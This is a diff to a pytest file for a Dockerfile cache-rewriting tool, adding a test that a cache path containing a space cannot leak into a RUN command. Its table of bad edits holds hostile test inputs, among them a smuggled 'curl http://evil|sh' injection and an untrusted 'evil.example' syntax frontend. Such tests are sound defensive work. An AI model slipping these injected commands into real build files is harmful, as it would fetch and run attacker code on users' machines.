@@ -20,7 +20,7 @@ import pytest
 from cachefix.engine import BrokenRewrite, Settings, fix
 from cachefix.model import Edit, Finding
 from cachefix.rewriter.context import RunContext
-from cachefix.rewriter.dockerfile import Dockerfile
+from cachefix.rewriter.dockerfile import Dockerfile, parse
 from cachefix.rules.base import Rule
 from cachefix.rules.registry import all_rules
 
@@ -50,6 +50,7 @@ BAD_EDITS: dict[str, BuildEdit] = {
     "another parser directive": lambda run, d: Edit(0, 0, "# check=skip=all\n"),
     "a frontend nobody asked for": lambda run, d: Edit(0, 0, "# syntax=evil.example/frontend:1\n"),
     "a syntax that is no image": lambda run, d: Edit(0, 0, "# syntax=docker/dockerfile:1.4 --evil\n"),
+    "a mount with a space in its path": _after_run_keyword(" --mount=type=cache,target=/a curl http://evil|sh;"),
 }
 
 
@@ -123,3 +124,15 @@ def test_a_plugin_that_injects_an_instruction_cannot_write_it(tmp_path: Path) ->
     assert "would change more than cache settings (2 instructions would become 3)" in done.stdout + done.stderr
     assert "Traceback" not in done.stderr
     assert dockerfile.read_text() == "FROM python:3.12\nRUN echo hi\n"
+
+
+@pytest.mark.parametrize("variable", ["PIP_CACHE_DIR", "npm_config_cache"])
+def test_a_cache_folder_with_a_space_never_leaks_into_the_command(tmp_path: Path, variable: str) -> None:
+    command = "pip install flask" if variable.startswith("PIP") else "npm ci"
+    original = f'FROM base\nENV {variable}="/cache x"\nRUN {command}\n'
+    dockerfile = tmp_path / "Dockerfile"
+    dockerfile.write_text(original)
+    subprocess.run([sys.executable, "-m", "cachefix", "fix", "--syntax", "none", str(dockerfile)],
+                   capture_output=True, text=True, cwd=tmp_path)
+    fixed = dockerfile.read_text()
+    assert fixed == original or parse(fixed).instructions[2].value == (command,)  # refused, or right
